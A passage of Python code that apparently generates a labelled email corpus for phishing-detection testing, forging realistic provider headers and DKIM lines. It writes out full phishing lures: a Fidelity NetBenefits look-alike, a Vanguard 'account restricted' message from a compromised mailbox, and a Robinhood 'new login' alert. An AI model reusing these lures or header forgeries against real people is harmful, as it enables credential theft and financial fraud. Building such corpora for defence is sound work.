    from PIL import Image, ImageDraw

    image = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(image)
    for x0, y0, x1, y1, colour in bars or []:
        draw.rectangle([x0, y0, x1, y1], fill=colour)
    for line, y in lines:
        draw.text((24, y), line, fill=(20, 20, 20))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# sanity checks
# --------------------------------------------------------------------------------------------

def check(raw: bytes, name: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{name}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, f"{name}: defects {part.defects} in {part.get_content_type()}"
        for key, value in part.items():
            defects = getattr(value, "defects", ())
            assert not defects, f"{name}: header {key} defects {defects}"
        if not part.is_multipart():
            content = part.get_content()
            assert content is not None, f"{name}: empty {part.get_content_type()}"
    for key in ("From", "To", "Subject", "Date", "Message-ID", "Received", "Authentication-Results"):
        assert msg[key] is not None, f"{name}: missing {key}"


# --------------------------------------------------------------------------------------------
# the senders' own infrastructure
# --------------------------------------------------------------------------------------------

class Out:
    """What a sending system contributes: the connecting host, its trace lines and headers above the message's."""

    def __init__(self, helo: str, ip: str, rdns: str, mf: str, hops: list[str] | None = None,
                 pre: list[str] | None = None, sigs: list[Sig] | None = None):
        self.helo, self.ip, self.rdns, self.mf = helo, ip, rdns, mf
        self.hops, self.pre, self.sigs = hops or [], pre or [], sigs or []


GMAIL_H = ["mime-version", "from", "date", "message-id", "subject", "to"]


def gmail_out(sender: str, rcpt: str, when: datetime, seed: str, extra_h: list[str] | None = None) -> Out:
    """A personal Gmail account (web or app) sending to ``rcpt``."""
    to_google = rcpt.endswith("@gmail.com")
    n = num(seed + "gm", 1, 230)
    if to_google:
        helo = rdns = f"mail-sor-f{num(seed + 'sor', 41, 73)}.google.com"
        ip = f"209.85.220.{num(seed + 'sor', 41, 73)}"
    else:
        kind = ["pl1", "pj1", "qk1", "yw1", "ej1", "lf1", "wm1"][n % 7]
        helo = rdns = f"mail-{kind}-f{n}.google.com"
        ip = {"pl1": "209.85.214", "pj1": "209.85.216", "qk1": "209.85.222", "yw1": "209.85.128",
              "ej1": "209.85.218", "lf1": "209.85.167", "wm1": "209.85.128"}[kind] + f".{n}"
    h = (extra_h or []) + GMAIL_H
    sig = Sig("gmail.com", "20230601", h + ["cc", "bcc"][:0], seed + "gmk", when, i="")
    xsig = Sig("1e100.net", "20230601", ["x-gm-message-state"] + h, seed + "gmx", when)
    hop = (f"Received: by {helo} with SMTP id {hexs(seed + 'gsid', 13)}-{hexs(seed + 'gsid2', 11)}"
           f"so{digits(seed + 'gsn', 8)}{lower(seed + 'gsl', 3)}.{num(seed + 'gsx', 1, 3)}\n"
           f"        for <{rcpt}>; {pacific(later(when, 1))}")
    x_dkim = xsig.header().replace("DKIM-Signature:", "X-Google-DKIM-Signature:", 1)
    pre = [x_dkim,
           "X-Gm-Message-State: AOJu0Y" + b64(seed + "gms", 54).rstrip("="),
           "X-Gm-Gg: ASbGnc" + b64(seed + "ggg", 60).rstrip("="),
           "X-Google-Smtp-Source: AGHT+I" + b64(seed + "gsso", 60).rstrip("="),
           f"X-Received: by 2002:a05:{hexs(seed + 'xra', 4)}:{hexs(seed + 'xrb', 4)}:b0:{hexs(seed + 'xrc', 3)}:{hexs(seed + 'xrd', 4)} with SMTP id\n"
           f" {hexs(seed + 'xre', 13)}-{hexs(seed + 'xrf', 11)}mr{digits(seed + 'xrg', 8)}{lower(seed + 'xrh', 3)}.{num(seed + 'xri', 10, 99)}.{epoch(when) * 1000 + num(seed + 'xrj', 100, 999)}; {pacific(when)}"]
    # the Gmail DKIM-Signature sits above X-Google-DKIM-Signature: hops, then sig (by build), then pre
    return Out(helo, ip, rdns, sender, [hop], pre, [sig])


def gmail_msgid(seed: str) -> str:
    return f"<CA{alnum(seed + 'mid1', 2)}{url64(seed + 'mid2', 24).replace('-', '+').replace('_', '=')[:24]}" \
           f"{alnum(seed + 'mid3', 20)}@mail.gmail.com>"


def yahoo_out(sender: str, when: datetime, seed: str, aol: bool = False, app: str = "YMailNorrin") -> Out:
    """A Yahoo / AOL / AT&T (Yahoo-hosted) mailbox sending from the web or the app."""
    dc = ["ne1", "bf2", "gq1"][num(seed + "ydc", 0, 2)]
    n = num(seed + "ysn", 300, 330)
    helo = rdns = f"sonic{n}-{num(seed + 'ysn2', 1, 60)}.consmr.mail.{dc}.yahoo.com"
    ip = f"{['74.6.135', '66.163.191', '66.163.186', '74.6.134'][num(seed + 'yip', 0, 3)]}.{num(seed + 'yipn', 100, 250)}"
    d, s = ("aol.com", "a2048") if aol else ("yahoo.com", "s2048")
    if sender.endswith("@att.net") or sender.endswith("@bellsouth.net") or sender.endswith("@sbcglobal.net"):
        d, s = sender.split("@")[1], "s2048"
    sig = Sig(d, s, ["Date", "From", "Reply-To", "Subject", "References", "To", "Cc", "In-Reply-To", "From",
                     "Subject", "Reply-To"][:5] + ["To"], seed + "ydk", when, c="relaxed/relaxed")
    hops = [f"Received: from sonic.gate.mail.{dc}.yahoo.com by sonic{n}.consmr.mail.{dc}.yahoo.com with HTTP;"
            f" {utc(when)}"]
    pre = [fold("X-YMail-OSG: ", alnum(seed + "osg", 230), indent=" "),
           f"X-Sonic-MF: <{sender}>",
           f"X-Sonic-ID: {hexs(seed + 'sid1', 8)}-{hexs(seed + 'sid2', 4)}-{hexs(seed + 'sid3', 4)}-{hexs(seed + 'sid4', 4)}-{hexs(seed + 'sid5', 12)}"]
    return Out(helo, ip, rdns, sender, hops, pre, [sig])


def yahoo_msgid(seed: str, when: datetime) -> str:
    return f"<{num(seed + 'ym1', 100000000, 2099999999)}.{num(seed + 'ym2', 100000, 9999999)}.{epoch(when)}{num(seed + 'ym3', 100, 999)}@mail.yahoo.com>"


def _m365_box(seed: str, consumer: bool) -> tuple[str, str]:
    """The sending mailbox server and its region, shared by the trace lines and the Message-ID."""
    if consumer:
        pfx = ["DM4P223MB", "SA1P223MB", "PH0P220MB", "MN0P220MB", "BY5P223MB"][num(seed + "mp", 0, 4)]
        region = "NAMP220" if "P220" in pfx else "NAMP223"
        return f"{pfx}{num(seed + 'mb', 1000, 9999)}", region + ".PROD.OUTLOOK.COM"
    region = ["namprd04", "namprd06", "namprd12", "namprd14", "namprd19"][num(seed + "mr", 0, 4)]
    pfx = ["DM6PR", "SA1PR", "BL1PR", "CH3PR", "MW4PR", "PH7PR"][num(seed + "mp", 0, 5)]
    return f"{pfx}{region[-2:]}MB{num(seed + 'mb', 1000, 9999)}", region + ".prod.outlook.com"


def m365_out(sender: str, when: datetime, seed: str, custom_dkim: bool = True, tenant: str | None = None,
             consumer: bool = False) -> Out:
    """An Exchange Online mailbox (small business, church, school; or Outlook.com) sending outward."""
    dom = sender.split("@")[1]
    box, region = _m365_box(seed, consumer)
    peer = f"{box[:-4]}{num(seed + 'mb2', 1000, 9999)}"
    gw = f"{['NAM12', 'NAM10', 'NAM11', 'NAM04'][num(seed + 'mg', 0, 3)]}-{['DM6', 'BN8', 'MW2', 'CO1'][num(seed + 'mg2', 0, 3)]}-obe"
    ip = f"40.107.{num(seed + 'mi', 92, 244)}.{num(seed + 'mi2', 40, 140)}"
    helo = f"{gw}.outbound.protection.outlook.com"
    rdns = f"mail-{gw.lower().split('-')[1]}{gw.lower().split('-')[0]}on2{num(seed + 'mi3', 100, 199)}.outbound.protection.outlook.com"
    build = "15.20.8" + str(num(seed + "mbld", 100, 999)) + "." + str(num(seed + "mbld2", 10, 40))
    fe = f"fe80::{hexs(seed + 'fe1', 4)}:{hexs(seed + 'fe2', 4)}:{hexs(seed + 'fe3', 4)}:{hexs(seed + 'fe4', 4)}%5"
    hops = [f"Received: from {box}.{region} (2603:10b6:{hexs(seed + 'm6', 3)}:{hexs(seed + 'm6b', 2)}::{num(seed + 'm6c', 10, 30)})\n"
            f" by {peer}.{region} (2603:10b6:{hexs(seed + 'm6d', 3)}:{hexs(seed + 'm6e', 2)}::{num(seed + 'm6f', 10, 30)}) with\n"
            f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {utc(later(when, 1))}",
            f"Received: from {box}.{region}\n ([{fe}]) by {box}.{region}\n"
            f" ([{fe}]) with mapi id {build}; {utc(when)}"]
    tenant = tenant or dom.split(".")[0].replace("-", "")
    sigs = []
    hl = ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version", "X-MS-Exchange-SenderADCheck"]
    if custom_dkim:
        sigs.append(Sig(dom, "selector1", hl, seed + "m365", when))
    else:
        sigs.append(Sig(f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com", hl, seed + "m365", when))
    return Out(helo, ip, rdns, sender, hops, [], sigs)


def m365_headers(seed: str, when: datetime, consumer: bool = False) -> dict:
    """Values for the X-MS-* block Exchange Online writes into a sent message (same mailbox as m365_out)."""
    box, region = _m365_box(seed, consumer)
    return {
        "msgid": f"<{box}{HEX(seed + 'mid', 16)}{HEX(seed + 'mid2', 4)}@{box}.{region}>",
        "thread_index": b64(seed + "ti", 22),
        "corr": f"{hexs(seed + 'c1', 8)}-{hexs(seed + 'c2', 4)}-{hexs(seed + 'c3', 4)}-{hexs(seed + 'c4', 4)}-{hexs(seed + 'c5', 12)}",
        "box": box,
    }


def exim_out(host: str, ip: str, sender: str, rcpt: str, when: datetime, seed: str, client_ip: str = "",
             auth_user: str = "", local: bool = False) -> Out:
    """A shared cPanel/Exim host: compromised site sending PHPMailer mail, or a webmail user."""
    mid = f"1t{alnum(seed + 'ex1', 4)}-{alnum(seed + 'ex2', 8)}-{alnum(seed + 'ex3', 4)}"
    if local:
        hop = (f"Received: from {sender.split('@')[0]} by {host} with local (Exim 4.98)\n"
               f"\t(envelope-from <{sender}>)\n\tid {mid}\n\tfor {rcpt};\n\t{fmt(when)}")
    else:
        hop = (f"Received: from [{client_ip}] (port={num(seed + 'port', 50000, 65000)} helo=[{client_ip}])\n"
               f"\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
               f"\t(Exim 4.98)\n\t(envelope-from <{sender}>)\n\tid {mid}\n\tfor {rcpt};\n\t{fmt(when)}")
    pre = [f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
           f"X-AntiAbuse: Primary Hostname - {host}",
           "X-AntiAbuse: Original Domain - " + rcpt.split("@")[1],
           "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
           "X-AntiAbuse: Sender Address Domain - " + sender.split("@")[1],
           "X-Get-Message-Sender-Via: " + host + (f": authenticated_id: {auth_user}" if auth_user else ": mailgid no entry from get_relayhosts_entry"),
           "X-Authenticated-Sender: " + host + ": " + (auth_user or sender)]
    return Out(host, ip, host, sender, [hop], pre, [])


def postfix_out(host: str, ip: str, sender: str, rcpt: str, when: datetime, seed: str,
                client: str = "localhost (localhost [127.0.0.1])") -> Out:
    """A rented VPS running Postfix (bulk phishing senders)."""
    hop = (f"Received: from {client}\n\tby {host} (Postfix) with ESMTPSA id {HEX(seed + 'pf', 11)}\n"
           f"\tfor <{rcpt}>; {fmt(when)}")
    return Out(host, ip, host, sender, [hop], [], [])


def sfmc_out(sub: str, brand: str, rcpt: str, when: datetime, seed: str, selector: str = "200608",
             bounce_dom: str | None = None) -> Out:
    """Salesforce Marketing Cloud (ExactTarget) sending for ``brand`` from ``sub``.brand."""
    bounce_dom = bounce_dom or f"{sub}.{brand}"
    mid = num(seed + "mid", 100000000, 599999999)
    mf = f"bounce-{num(seed + 'bj', 10, 999)}_HTML-{mid}-{num(seed + 'bs', 1000000, 9999999)}-{num(seed + 'bm', 100000, 999999)}-{num(seed + 'bn', 1, 9)}@{bounce_dom}"
    ip = f"136.147.{num(seed + 'ip', 128, 191)}.{num(seed + 'ip2', 2, 250)}"
    helo = rdns = f"mta{num(seed + 'mta', 1, 9)}.{sub}.{brand}"
    hop = f"Received: by {helo} id {alnum(seed + 'hid', 13).lower()} for <{rcpt}>; {fmt(when)}"
    sig = Sig(f"{sub}.{brand}", selector, ["from", "reply-to", "subject", "date", "to", "mime-version",
                                            "content-type", "message-id", "list-unsubscribe", "x-csa-complaints",
                                            "list-unsubscribe-post", "feedback-id"], seed + "sfmc", when, c="relaxed/relaxed")
    return Out(helo, ip, rdns, mf, [hop], [], [sig])


def sfmc_headers(seed: str, sub: str, brand: str) -> dict:
    jb = num(seed + "job", 100000, 999999)
    return {
        "msgid": f"<{hexs(seed + 'm1', 8)}-{hexs(seed + 'm2', 4)}-{hexs(seed + 'm3', 4)}-{hexs(seed + 'm4', 4)}-{hexs(seed + 'm5', 12)}@ind{num(seed + 'ind', 1, 2)}s0{num(seed + 'ind2', 1, 9)}mta{num(seed + 'mta', 100, 999)}.xt.local>",
        "job": f"x-job: {num(seed + 'x1', 1000000, 9999999)}_{jb}",
        "csa": "X-CSA-Complaints: csa-complaints@eco.de",
        "sfmc": f"X-SFMC-Stack: {num(seed + 'st', 1, 11)}",
        "click": f"https://click.{sub}.{brand}",
        "view": f"https://view.{sub}.{brand}",
        "img": f"https://image.{sub}.{brand}",
        "qs": f"qs={hexs(seed + 'qs', 100)}",
        "unsub": f"https://click.{sub}.{brand}/subscription_center.aspx?jwt={url64(seed + 'jwt', 120)}",
        "leave": f"leave-{hexs(seed + 'lv', 40)}@leave.{sub}.{brand}",
    }


def sendgrid_out(brand_dom: str, rcpt: str, when: datetime, seed: str, em: str | None = None,
                 selector: str = "s1", brand_sig: bool = True) -> Out:
    """Twilio SendGrid (a customer's authenticated domain, or the shared sendgrid.net one)."""
    uid = num(seed + "uid", 1000000, 49999999)
    em = em or f"em{num(seed + 'em', 1000, 9999)}.{brand_dom}"
    mf = f"bounces+{uid}-{hexs(seed + 'bid', 4)}-{rcpt.replace('@', '=')}@{em}"
    ip = f"{['149.72', '167.89', '168.245', '159.183'][num(seed + 'ipa', 0, 3)]}.{num(seed + 'ip', 10, 250)}.{num(seed + 'ip2', 2, 250)}"
    helo = rdns = f"o{num(seed + 'o', 1, 9)}.ptr{num(seed + 'ptr', 1000, 9999)}.{brand_dom}" if brand_sig else \
        f"{lower(seed + 'xtr', 8)}.outbound-mail.sendgrid.net"
    geo = f"geopod-ismtpd-{num(seed + 'geo', 1, 40)}"
    hops = [f"Received: by filterdrecv-{hexs(seed + 'fd', 10)}-{lower(seed + 'fd2', 5)} with SMTP id filterdrecv-{hexs(seed + 'fd', 10)}-{lower(seed + 'fd2', 5)}-{num(seed + 'fdn', 1, 40)}-{HEX(seed + 'fdx', 8)}-{num(seed + 'fdm', 1, 99)}\n"
            f"        {later(when, 1).astimezone(UTC).strftime('%Y-%m-%d %H:%M:%S')}.{digits(seed + 'fdms', 9)} +0000 UTC m=+{num(seed + 'fdu', 100000, 999999)}.{digits(seed + 'fdu2', 9)}",
            f"Received: from {uid} (unknown)\n\tby {geo} (SG) with HTTP\n\tid {url64(seed + 'sgid', 22)}\n\t{utc(when)}"]
    sigs = []
    hl = ["from", "mime-version", "subject", "list-unsubscribe", "list-unsubscribe-post", "content-type",
          "cc", "content-type", "from", "subject", "to"]
    if brand_sig:
        sigs.append(Sig(brand_dom, selector, hl, seed + "sgb", when, c="relaxed/relaxed"))
    sigs.append(Sig("sendgrid.net", "smtpapi", hl, seed + "sga", when, c="relaxed/relaxed"))
    return Out(helo, ip, rdns, mf, hops, [], sigs)


def sendgrid_msgid(seed: str) -> str:
    return f"<{url64(seed + 'sgm', 22)}@geopod-ismtpd-{num(seed + 'geo', 1, 40)}>"


def ses_out(brand_dom: str, mail_from_dom: str, rcpt: str, when: datetime, seed: str, selector: str | None = None) -> Out:
    """Amazon SES, custom MAIL FROM domain, brand DKIM plus amazonses.com's."""
    ip = f"54.240.{num(seed + 'ip', 0, 127)}.{num(seed + 'ip2', 2, 250)}"
    helo = rdns = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.amazonses.com"
    msgid = f"01000{num(seed + 'm', 190, 199)}{hexs(seed + 'm1', 11)}-{hexs(seed + 'm2', 8)}-{hexs(seed + 'm3', 4)}-{hexs(seed + 'm4', 4)}-{hexs(seed + 'm5', 4)}-{hexs(seed + 'm6', 12)}-000000"
    mf = f"{msgid}@{mail_from_dom}"
    hl = ["Subject", "From", "To", "MIME-Version", "Content-Type", "List-Unsubscribe", "List-Unsubscribe-Post",
          "Message-ID", "Date", "Feedback-ID"]
    sigs = [Sig(brand_dom, selector or lower(seed + "sel", 32), hl, seed + "sesb", when, c="relaxed/simple"),
            Sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", hl, seed + "sesa", when, c="relaxed/simple")]
    pre = [f"Feedback-ID: ::1.us-east-1.{alnum(seed + 'fb', 43)}=:AmazonSES",
           f"X-SES-Outgoing: {when.astimezone(UTC).strftime('%Y.%m.%d')}-{ip}"]
    out = Out(helo, ip, rdns, mf, [], pre, sigs)
    out.msgid = f"<{msgid}@email.amazonses.com>"
    return out


def sparkpost_out(brand_dom: str, bounce_dom: str, rcpt: str, when: datetime, seed: str, selector: str = "scph0524") -> Out:
    """SparkPost (Bird), used by Braze and Iterable customers."""
    ip = f"{['192.174.80', '147.253.209', '192.174.92', '156.70.56'][num(seed + 'ipa', 0, 3)]}.{num(seed + 'ip', 2, 250)}"
    helo = rdns = f"mta-{num(seed + 'mta', 10, 250)}-{num(seed + 'mtb', 1, 9)}.{bounce_dom}"
    mf = f"msprvs1={alnum(seed + 'prvs', 14)}=bounces-{num(seed + 'bn', 100000, 299999)}-{num(seed + 'bn2', 1, 999)}@{bounce_dom}"
    hop = (f"Received: from [10.90.{num(seed + 'ia', 1, 254)}.{num(seed + 'ib', 1, 254)}] ([10.90.{num(seed + 'ia', 1, 254)}.{num(seed + 'ib', 1, 254)}:{num(seed + 'port', 30000, 65000)}] helo={helo})\n"
           f"\tby i-{hexs(seed + 'inst', 17)}.mta1vrest.sd.prd.sparkpost (envelope-from <{mf}>)\n"
           f"\t(ecelerity 5.0.3.{num(seed + 'ece', 60000, 79999)} r(:)) with ESMTP\n\tid {HEX(seed + 'eid', 2)}/{HEX(seed + 'eid2', 2)}-{num(seed + 'eid3', 10000, 99999)}-{hexs(seed + 'eid4', 8)}; {fmt(when)}")
    hl = ["From", "To", "Subject", "MIME-Version", "Content-Type", "Message-ID", "Date", "List-Unsubscribe",
          "List-Unsubscribe-Post"]
    sigs = [Sig(brand_dom, selector, hl, seed + "spk", when, c="relaxed/relaxed")]
    return Out(helo, ip, rdns, mf, [hop], [], sigs)


def ship(out: Out, *, rcpt: str, when: datetime, spf: str, dmarc: str, hfrom: str, policy: str, headers: str,
         body, seed: str, sp: str | None = None, extra_pre: list[str] | None = None, sig_results: list[str] | None = None) -> bytes:
    """Build a message sent by ``out``."""
    if sig_results:
        for sig, result in zip(out.sigs, sig_results):
            sig.result = result
    return build(rcpt=rcpt, when=when, helo=out.helo, ip=out.ip, rdns=out.rdns, mf=out.mf, spf=spf, dmarc=dmarc,
                 hfrom=hfrom, policy=policy, sigs=out.sigs, hops=out.hops, pre=out.pre + (extra_pre or []),
                 headers=headers, body=body, seed=seed, sp=sp)


def outlookcom_out(sender: str, when: datetime, seed: str) -> Out:
    """A consumer Outlook.com / Hotmail mailbox sending outward."""
    out = m365_out(sender, when, seed, custom_dkim=True, consumer=True)
    out.ip = f"40.92.{num(seed + 'oc', 18, 107)}.{num(seed + 'oc2', 10, 250)}"
    out.helo = f"NAM{num(seed + 'ocn', 10, 12)}-{['BN8', 'DM6', 'MW2', 'CO1'][num(seed + 'oc3', 0, 3)]}-obe.outbound.protection.outlook.com"
    out.rdns = f"mail-{out.helo.split('-')[1].lower()}nam{out.helo[3:5]}olkn2{num(seed + 'oc4', 10, 99)}.outbound.protection.outlook.com"
    out.sigs[0].d = sender.split("@")[1]
    out.sigs[0].h = ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version",
                     "X-MS-Exchange-SenderADCheck"]
    return out


SAMPLE_FUNCS = []


def sample(func):
    SAMPLE_FUNCS.append(func)
    return func


def btn(href: str, label: str, bg: str = "#0b5fad", fg: str = "#ffffff") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'<td align="center" bgcolor="{bg}" style="border-radius:4px;">'
            f'<a href="{href}" target="_blank" style="display:inline-block;padding:12px 28px;'
            f'font-family:Arial,Helvetica,sans-serif;font-size:15px;color:{fg};text-decoration:none;'
            f'font-weight:bold;">{label}</a></td></tr></table>')


def shell(inner: str, title: str = "", width: int = 600, bg: str = "#f2f2f2", font: str = "Arial,Helvetica,sans-serif",
          preheader: str = "") -> str:
    """The table-based frame most US brand templates share."""
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}'
           f'&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>\n') if preheader else ""
    return (f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            f'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
            f'<html xmlns="http://www.w3.org/1999/xhtml">\n<head>\n'
            f'<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1.0" />\n'
            f'<title>{title}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background-color:{bg};">\n{pre}'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="{bg}">\n'
            f'<tr><td align="center" style="padding:20px 10px;">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" '
            f'style="background-color:#ffffff;font-family:{font};font-size:15px;line-height:22px;color:#333333;">\n'
            f'{inner}\n</table>\n</td></tr>\n</table>\n</body>\n</html>\n')


def row(html: str, pad: str = "16px 32px", extra: str = "") -> str:
    return f'<tr><td style="padding:{pad};{extra}">{html}</td></tr>\n'


# ============================================================================================
# ATTACKS: brokerages, retirement, crypto
# ============================================================================================

@sample
def a_fidelity_netbenefits():
    seed = "a-fid"
    rcpt = "dwightkessler58@gmail.com"
    when = T("2025-02-11 07:42:18 -0500")
    dom = "fidelity-netbenefit.com"
    out = postfix_out(f"mail.{dom}", "193.149.176.212", f"notice@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "default", ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version"], seed + "dk", when)]
    link = f"https://login.{dom}/prgw/digital/login/full-page?AuthRedUrl=netbenefits&ref={hexs(seed + 'r', 16)}"
    html = shell(
        row('<img src="https://login.fidelity-netbenefit.com/static/nb/fidelity-logo-green.png" width="140" '
            'alt="Fidelity NetBenefits" style="display:block;border:0;" />', "24px 32px 8px")
        + row('<p style="font-size:20px;color:#368727;margin:0;"><b>Action required on your workplace account</b></p>')
        + row('<p>Dear Participant,</p>'
              '<p>As part of our annual security review required under the SECURE 2.0 Act, all NetBenefits&reg; '
              'participants must re-confirm their login credentials and contact information by '
              '<b>February 14, 2025</b>.</p>'
              '<p>Accounts that are not confirmed will be placed on a temporary hold, and contributions, loans '
              'and withdrawals will be unavailable until the review is completed.</p>')
        + row(btn(link, "Confirm my account", "#368727"))
        + row('<p style="font-size:12px;color:#666;">This review takes about 2 minutes. You will need your '
              'username, password and the phone number on file.</p>'
              '<p style="font-size:11px;color:#999;">Fidelity Brokerage Services LLC, Member NYSE, SIPC, '
              '900 Salem Street, Smithfield, RI 02917<br/>1173472.3.0</p>'),
        title="NetBenefits", preheader="Please confirm your account by February 14 to avoid a hold")
    plain = ("Fidelity NetBenefits\n\nAction required on your workplace account\n\nDear Participant,\n\n"
             "As part of our annual security review required under the SECURE 2.0 Act, all NetBenefits participants "
             "must re-confirm their login credentials and contact information by February 14, 2025.\n\n"
             "Accounts that are not confirmed will be placed on a temporary hold.\n\n"
             f"Confirm my account: {link}\n\nFidelity Brokerage Services LLC, Member NYSE, SIPC\n")
    headers = f"""Date: {fmt(when)}
From: Fidelity NetBenefits <notice@{dom}>
To: {rcpt}
Subject: Action Required: Confirm your NetBenefits account by Feb 14
Message-ID: <{hexs(seed + 'mid', 32)}@{dom}>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, f"=_{hexs(seed + 'b', 32)}"), seed=seed)
    add("phishing", "phish", "fidelity-netbenefits-lookalike", raw,
        "Credential phish for Fidelity NetBenefits 401(k) logins from a freshly registered look-alike domain "
        "(fidelity-netbenefit.com) that passes its own SPF/DKIM/DMARC, threatening an account hold.")


@sample
def a_vanguard_pagesdev():
    seed = "a-vgd"
    rcpt = "marybeth.oconnor@yahoo.com"
    when = T("2025-05-06 10:03:51 -0500")
    sender = "kdelacruz@delacruzplumbingtx.com"
    out = m365_out(sender, when, seed)
    mh = m365_headers(seed, when)
    link = f"https://vanguard-client-review.pages.dev/?uid={hexs(seed + 'u', 10)}&e=bWFyeWJldGgub2Nvbm5vckB5YWhvby5jb20="
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#000;">'
            '<p style="font-size:16pt;color:#96151D;"><b>Vanguard</b></p>'
            '<p>Dear Valued Client,</p>'
            '<p>We detected a sign-in attempt to your Vanguard account from an unrecognized device '
            '(Windows 10, Lagos, NG) on 05/06/2025. As a precaution, online access and pending transactions '
            'have been temporarily <b>restricted</b>.</p>'
            '<p>To restore access please verify your identity using the secure link below within 24 hours:</p>'
            f'<p><a href="{link}" style="color:#96151D;font-weight:bold;">Restore Account Access</a></p>'
            '<p>If you do not complete verification your account will remain restricted for your protection.</p>'
            '<p>Thank you for investing with Vanguard.<br>Client Security Team</p>'
            '<p style="font-size:8pt;color:#777;">&copy; 2025 The Vanguard Group, Inc. All rights reserved. '
            'Vanguard Marketing Corporation, Distributor.</p></div></body></html>\n')
    plain = ("Vanguard\n\nDear Valued Client,\n\nWe detected a sign-in attempt to your Vanguard account from an "
             "unrecognized device (Windows 10, Lagos, NG) on 05/06/2025. As a precaution, online access and pending "
             "transactions have been temporarily restricted.\n\nTo restore access please verify your identity using "
             f"the secure link below within 24 hours:\n\nRestore Account Access <{link}>\n\n"
             "Thank you for investing with Vanguard.\nClient Security Team\n")
    headers = f"""From: Vanguard Client Services <{sender}>
To: "undisclosed-recipients:;"
Subject: Account Access Restricted - Verification Needed
Thread-Topic: Account Access Restricted - Verification Needed
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
X-MS-Exchange-Organization-RecordReviewCfmType: 0
x-ms-publictraffictype: Email
x-ms-traffictypediagnostic: {mh['box']}:EE_|BN0PR12MB5841:EE_
x-ms-office365-filtering-correlation-id: {mh['corr']}
MIME-Version: 1.0"""
    headers = headers.replace('To: "undisclosed-recipients:;"', "To: undisclosed-recipients:;")
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="delacruzplumbingtx.com", policy="NONE",
               headers=headers, body=alt(plain, html, bnd("outlook", seed)), seed=seed)
    add("phishing", "phish", "vanguard-restricted-pagesdev", raw,
        "Vanguard account-restriction lure sent from a compromised plumbing company's Microsoft 365 mailbox "
        "(passes SPF/DKIM/DMARC for its own domain) linking to a credential page on pages.dev.")


@sample
def a_robinhood_sendgrid():
    seed = "a-rh"
    rcpt = "tylerhuang.nyc@gmail.com"
    when = T("2024-11-19 21:17:05 -0500")
    dom = "mlsmarketingpro.com"
    out = sendgrid_out(dom, rcpt, when, seed, em=f"em7713.{dom}", selector="s1")
    click = f"https://url9187.{dom}/ls/click?upn=u001.{url64(seed + 'upn', 180)}"
    opened = f"https://url9187.{dom}/wf/open?upn=u001.{url64(seed + 'op', 120)}"
    html = shell(
        row('<p style="font-family:Helvetica,Arial,sans-serif;font-size:22px;font-weight:bold;color:#000;margin:0;">'
            'Robinhood <span style="color:#00c805;">&#x1FAB6;</span></p>', "28px 32px 8px")
        + row('<p style="font-size:18px;font-weight:bold;margin:0 0 12px;">New login detected</p>'
              '<p>Your Robinhood account was just accessed from a new device.</p>'
              '<table cellpadding="4" style="font-size:14px;color:#333;">'
              '<tr><td><b>Device</b></td><td>Chrome 130 on Windows</td></tr>'
              '<tr><td><b>Location</b></td><td>Kyiv, Ukraine (approx.)</td></tr>'
              '<tr><td><b>IP address</b></td><td>176.37.91.14</td></tr>'
              '<tr><td><b>Time</b></td><td>Nov 19, 2024 at 9:14 PM ET</td></tr></table>'
              '<p>If this was you, no action is needed. If you don&#39;t recognize this activity, secure your '
              'account now. Crypto withdrawals will be released in 12 hours unless you review them.</p>')
        + row(btn(click, "This wasn't me", "#000000"))
        + row('<p style="font-size:12px;color:#6f6f6f;">Robinhood Markets, Inc. 85 Willow Rd, Menlo Park, CA 94025'
              '</p>'
              f'<img src="{opened}" alt="" width="1" height="1" border="0" style="height:1px !important;'
              'width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important;" />'),
        title="Robinhood", bg="#ffffff")
    plain = ("Robinhood\n\nNew login detected\n\nYour Robinhood account was just accessed from a new device.\n"
             "Device: Chrome 130 on Windows\nLocation: Kyiv, Ukraine (approx.)\nIP address: 176.37.91.14\n\n"
             "If you don't recognize this activity, secure your account now. Crypto withdrawals will be released in "
             f"12 hours unless you review them.\n\nThis wasn't me ( {click} )\n")
